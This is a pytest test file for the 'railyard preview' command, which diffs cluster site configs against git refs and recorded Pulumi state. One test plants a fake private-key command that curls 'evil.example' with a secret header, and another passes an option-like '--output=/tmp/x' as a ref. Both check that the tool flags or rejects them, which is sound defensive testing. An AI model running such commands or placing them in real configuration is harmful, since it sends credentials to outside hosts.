"""`railyard preview`: against a git ref, the recorded state, and the engine."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from components.plan.make import make_plan
from components.update.secrets import secret_names
from tests.cli.conftest import Call
from tests.golden.site import EXAMPLES, load_example

SITE = EXAMPLES / "dgx-roce" / "site.yaml"
SPEC = load_example("dgx-roce")
PLAN = make_plan(SPEC, "dev")


@pytest.fixture
def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A clone with the site as a stack's configuration, committed; no engine anywhere."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", "/usr/bin:/bin:/usr/local/bin")
    sealed = {f"railyard:{name}": {"secure": "v1:not-read"} for name in secret_names(SPEC)}
    document = {"config": {"railyard:cluster": yaml.safe_load(SITE.read_text()), **sealed}}
    (tmp_path / "Pulumi.dev.yaml").write_text(yaml.safe_dump(document))
    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "site")
    return tmp_path


@pytest.fixture
def site_clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A clone with the site alone, committed."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "site.yaml"
    path.write_text(SITE.read_text())
    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "site")
    return path


def git(*arguments: str) -> None:
    who = ["-c", "user.name=a", "-c", "user.email=a@example.com"]
    subprocess.run(["/usr/bin/env", "git", *who, *arguments], check=True, timeout=30)


def edit(folder: Path, **parts: Any) -> None:  # noqa: ANN401 - YAML
    path = folder / "Pulumi.dev.yaml"
    document = yaml.safe_load(path.read_text())
    document["config"]["railyard:cluster"] |= parts
    path.write_text(yaml.safe_dump(document))


def other_vlan() -> list[dict[str, Any]]:
    rails = yaml.safe_load(SITE.read_text())["rails"]
    return [{**rails[0]}, {**rails[1], "vlan": 113}]


def test_a_clone_alone_shows_the_difference(railyard: Call, clone: Path) -> None:
    edit(clone, rails=other_vlan())
    done = railyard("preview", "dev", "--against", "HEAD")
    assert (done.code, done.err) == (0, "")
    assert "trunk_vlan_113: absent -> allowed" in done.out
    assert "no device and no state was read" in done.out
    as_file = railyard("preview", "Pulumi.dev.yaml", "--against", "HEAD")
    assert as_file.out == done.out


def test_a_program_that_an_edit_adds_is_the_first_that_a_reviewer_reads(
    railyard: Call, clone: Path
) -> None:
    hosts = yaml.safe_load(SITE.read_text())["hosts"]
    hosts[0]["ssh"]["private_key"] = {"command": ["curl", "https://evil.example", "-H", "s3cr3t"]}
    edit(clone, hosts=hosts, rails=other_vlan())
    for form in ("text", "markdown"):
        done = railyard("preview", "dev", "--against", "HEAD", "--format", form)
        said = [line for line in done.out.splitlines() if line.startswith(("!", "> `", "**"))]
        assert "this edit adds a program: curl of hosts[0].ssh.private_key.command" in said[0]
        assert "s3cr3t" not in done.out


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        (
            "address: 192.168.1.5",
            "address: 203.0.113.66",
            "leaf-01 in another way: ssh.address: 19",
        ),
        ("user: admin", "user: root", "logs in to leaf-01 in another way: ssh.user: admin -> root"),
        (
            "{secret: switch_password}",
            "{secret: k3s_token}",
            "leaf-01 in another way: ssh.password.secret: switch_password -> k3s_token",
        ),
        (
            "release: 3.9.2504",
            "release: 3.9.2504\n    serial: MT1",
            "leaf-01 in another way: serial: absent -> MT1",
        ),
        (
            "reboots: allow",
            "reboots: deny",
            "limits of an update: disruption.reboots: ",
        ),
        ("nccl-roce-test:1", "nccl-roce-test:2", "this edit changes what runs: jobs.image: "),
    ],
)
def test_an_edit_that_changes_no_setting_is_not_nothing(
    old: str, new: str, says: str, railyard: Call, site_clone: Path
) -> None:
    text = site_clone.read_text()
    assert old in text
    site_clone.write_text(text.replace(old, new, 1))
    done = railyard("preview", site_clone.name, "--against", "HEAD")
    assert done.code == 0
    assert says in done.out
    assert "Nothing would change" not in done.out


@pytest.mark.parametrize(
    "broken",
    [
        b"config: [",
        b"config: {'railyard:site': !!python/x y}",
        b"\xff\xfe\x80",
        b"config: " + b"[" * 3000,
        b"config: {'railyard:site': 2026-99-99}",
        b'config: {"railyard:site": "\\0"}',
    ],
)
def test_a_broken_file_of_the_ref_is_named_with_the_ref(
    broken: bytes, railyard: Call, clone: Path
) -> None:
    stack = clone / "Pulumi.dev.yaml"
    sound = stack.read_bytes()
    stack.write_bytes(broken)
    git("commit", "-qam", "broken")
    stack.write_bytes(sound)
    done = railyard("preview", "dev", "--against", "HEAD")
    assert done.code == 2
    assert "HEAD:Pulumi.dev.yaml" in done.err
    assert "the file of HEAD has this problem" in done.err
    assert str(clone) not in done.err
    assert "/tmp" not in done.err


def test_a_file_that_cannot_be_written_is_said_first(railyard: Call, clone: Path) -> None:
    done = railyard("preview", "dev", "--against", "HEAD", "--full", str(clone))
    assert done.code == 2
    assert "--full" in done.err
    assert "it cannot be written: Is a directory" in done.err


def test_a_preview_that_fails_leaves_the_full_text_of_before(railyard: Call, clone: Path) -> None:
    full = clone / "full.txt"
    full.write_text("the preview of yesterday\n")
    assert railyard("preview", "dev", "--against", "no-such-ref", "--full", str(full)).code == 2
    assert full.read_text() == "the preview of yesterday\n"


def test_the_full_text_is_a_file_where_the_comment_is_cut(railyard: Call, clone: Path) -> None:
    hosts = yaml.safe_load(SITE.read_text())["hosts"]
    edit(
        clone,
        rails=other_vlan(),
        hosts=[{**hosts[0], "name": "mgmt99"}, *hosts[1:]],
        host_defaults={"driver": {"kind": "present"}, "kernel": {"sysctls": {"vm.swappiness": 10}}},
        disruption={"ports": "deny", "reboots": "allow"},
    )
    markdown = ["--format", "markdown", "--limit", "1000", "--full", "full.txt"]
    done = railyard("preview", "dev", "--against", "HEAD", *markdown)
    assert done.code == 0
    assert len(done.out) <= 1000
    assert "do not fit into this comment" in done.out
    assert "trunk_vlan_113: absent -> allowed" in (clone / "full.txt").read_text()


@pytest.mark.parametrize("reference", ["no-such-ref", "--output=/tmp/x"])
def test_a_ref_that_is_none_is_told(railyard: Call, clone: Path, reference: str) -> None:
    del clone
    done = railyard("preview", "dev", f"--against={reference}")
    assert (done.code, done.out) == (2, "")
    assert "ref" in done.err


def test_a_wrong_file_is_a_report(railyard: Call, clone: Path) -> None:
    edit(clone, rails=[])
    done = railyard("preview", "dev", "--against", "HEAD")
    assert done.code == 1
    assert "fix" in done.err


def put_stack(folder: Path, preview: str) -> None:
    """A stack whose switch was applied with another MTU on one port, and its engine."""
    switch = PLAN.switches[0]
    desired = switch.desired.model_dump(mode="json")
    desired["ports"]["1/2"]["mtu_bytes"] = 9000
    steps = {switch.step: ("fabric:Fabric", json.dumps({"desired": desired, "repair": ""}))}
    steps |= {host.converge.name: ("hosts:Hosts", host.converge.desired) for host in PLAN.hosts}
    resources = [
        {
            "urn": f"urn:pulumi:dev::railyard::railyard:{room}$command:x:Command::{name}",
            "custom": True,
            "inputs": {"stdin": text},
            "outputs": {"stdin": text},
        }
        for name, (room, text) in steps.items()
    ]
    cluster = json.dumps(yaml.safe_load(SITE.read_text()))
    config = {"railyard:cluster": {"value": cluster}, "railyard:k3s_token": {"value": "s3cret"}}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "export.json").write_text(json.dumps({"deployment": {"resources": resources}}))
    (folder / "preview.json").write_text(preview)
    program = folder / "bin" / "pulumi"
    program.parent.mkdir()
    program.write_text(
        '#!/bin/sh\necho "$*" >> calls\n'
        'case "$1" in config) cat config.json;; stack) cat export.json;; '
        "preview) cat preview.json; exit 0;; esac\n"
    )
    program.chmod(0o755)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:/usr/bin:/bin")
    return tmp_path


def test_offline_compares_with_the_recorded_state(railyard: Call, folder: Path) -> None:
    put_stack(folder, "")
    done = railyard("preview", "dev", "--offline")
    assert done.code == 0
    assert "      mtu_bytes: 9000 -> 9216" in done.out
    stops = "port 1/2: mtu_bytes: 9000 -> 9216"
    assert f"! leaf-01: INTERRUPTS (disruption.ports: allow): {stops}" in done.out
    assert "! an update would refuse this site: k3s, " in done.out
    assert "s3cret" not in done.out
    assert "preview" not in (folder / "calls").read_text()


def test_never_observing_asks_no_engine(
    railyard: Call, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put_stack(folder, "")
    monkeypatch.setenv("RAILYARD_OBSERVE", "never")
    assert "drift is not known" in railyard("preview", "dev").out
    assert "preview" not in (folder / "calls").read_text()


def test_the_engine_adds_drift(railyard: Call, folder: Path) -> None:
    drift = {"message": "gpu01: drift: vfs of nic 0000:05:00.0 is 0, want 8\n", "severity": "info"}
    put_stack(folder, json.dumps({"steps": [], "diagnostics": [drift]}))
    out = railyard("preview", "dev").out
    assert "Repairs of drift, not of the file:\n  gpu01: nic 0000:05:00.0 vfs: 0 -> 8" in out
    assert "      mtu_bytes: 9000 -> 9216" in out
    assert "as `pulumi preview` sees them" in out


REFUSED = {"message": "the cluster does not answer", "severity": "error"}


@pytest.mark.parametrize(
    "answer",
    [
        "error: the cluster does not answer",
        json.dumps({"diagnostics": [REFUSED]}),
    ],
)
def test_an_engine_that_fails_is_told_above_the_recorded_state(
    railyard: Call, folder: Path, answer: str
) -> None:
    put_stack(folder, answer)
    done = railyard("preview", "dev")
    assert done.code == 1
    assert "! pulumi preview failed, and an update would: " in done.out
    assert "the cluster does not answer" in done.out
    assert "      mtu_bytes: 9000 -> 9216" in done.out


def test_a_file_alone_is_not_looked_for_as_a_stack(railyard: Call, site_clone: Path) -> None:
    done = railyard("preview", site_clone.name)
    assert done.code == 2
    assert "site.yaml is a file: without --against REF" in done.err
    assert "railyard preview site.yaml --against HEAD" in done.err


def test_a_scope_shows_its_devices_alone_and_hands_itself_to_the_engine(
    railyard: Call, folder: Path
) -> None:
    put_stack(folder, json.dumps({"steps": [], "diagnostics": []}))
    program = folder / "bin" / "pulumi"
    program.write_text(program.read_text().replace('"$*"', '"$* $RAILYARD_SCOPE"'))
    out = railyard("preview", "dev", "--scope", "host=gpu01").out
    assert "sees them; of host=gpu01 alone" in out
    assert "leaf-01" not in out
    called = (folder / "calls").read_text().splitlines()
    assert next(line for line in called if line.startswith("preview")).endswith(" host=gpu01")
    out = railyard("preview", "dev", "--scope", "leaf=leaf-01", "--offline").out
    assert "      mtu_bytes: 9000 -> 9216" in out


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (("--scope", "host=gpu09"), 'the scope: "host=gpu09" names no device of this site.'),
        (("--scope", "host=gpu01", "--against", "HEAD"), "a comparison of two files has no scope"),
    ],
)
def test_a_wrong_scope_is_a_report(
    railyard: Call, folder: Path, options: tuple[str, ...], words: str
) -> None:
    put_stack(folder, "")
    done = railyard("preview", "dev", *options)
    assert done.code == 2
    assert words in done.err
    assert "fix" in done.err
